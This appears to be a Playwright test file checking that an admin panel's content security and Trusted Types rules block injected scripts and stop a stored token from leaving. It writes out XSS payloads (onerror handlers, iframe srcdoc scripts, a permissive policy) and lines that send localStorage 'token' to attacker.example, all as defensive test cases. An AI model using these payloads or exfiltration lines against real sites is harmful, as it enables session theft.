import { expect, expectLoaded, test } from './support';

/** What a text that has got into the page would do to run, each on the way that it would take. */
const waysToRun: Record<string, string | (() => unknown)> = {
  'markup with a handler': () => (document.body.innerHTML = '<img src="/" onerror="window.isTaken = true">'),
  'markup beside': () => document.body.insertAdjacentHTML('beforeend', '<b>Your session has ended</b>'),
  'a page in a frame': () => {
    document.createElement('iframe').srcdoc = '<script>parent.isTaken = true</script>';
  },
  'a handler': () => document.body.setAttribute('onclick', 'window.isTaken = true'),
  'an inline script': () => {
    document.createElement('script').textContent = 'window.isTaken = true';
  },
  'a script from elsewhere': () => {
    document.createElement('script').src = 'https://attacker.example/script.js';
  },
  'a worker': () => new Worker('/assets/worker.js'),
  'a policy that lets all through': "trustedTypes.createPolicy('attacker', { createHTML: (text) => text })",
  'another policy in the place of ours': "trustedTypes.createPolicy('default', { createHTML: (text) => text })",
};

/** What a script would do to take the token away. */
const waysOut: Record<string, () => Promise<unknown>> = {
  'a call': () => fetch(`https://attacker.example/?${localStorage.getItem('token')}`),
  'an image': () => {
    const image = new Image();
    image.src = `https://attacker.example/?${localStorage.getItem('token')}`;
    return image.decode();
  },
};

test.describe('whoever gets something into the panel', () => {
  test.use({ isRefusalMeant: true });

  test('a text runs on no way, and the token leaves for no other origin', async ({ page, refused }) => {
    await page.goto('/admin/plans');
    await expectLoaded(page);
    for (const [way, run] of Object.entries(waysToRun)) await expect(page.evaluate(run), way).rejects.toThrow();

    // An inline script of pieces is refused without a word to whoever adds it.
    await page.evaluate(() => {
      const script = document.createElement('script');
      script.append('window.isTaken = true');
      document.body.append(script);
    });
    expect(await page.evaluate(() => 'isTaken' in window)).toBe(false);
    await expect.poll(() => refused).not.toEqual([]);

    const sent: string[] = [];
    await page.route('https://attacker.example/**', (route) => {
      sent.push(route.request().url());
      return route.fulfill({ headers: { 'access-control-allow-origin': '*' } });
    });
    for (const [way, send] of Object.entries(waysOut)) await expect(page.evaluate(send), way).rejects.toThrow();
    expect(sent).toEqual([]);
    await expect.poll(() => refused).not.toEqual([]);
  });
});
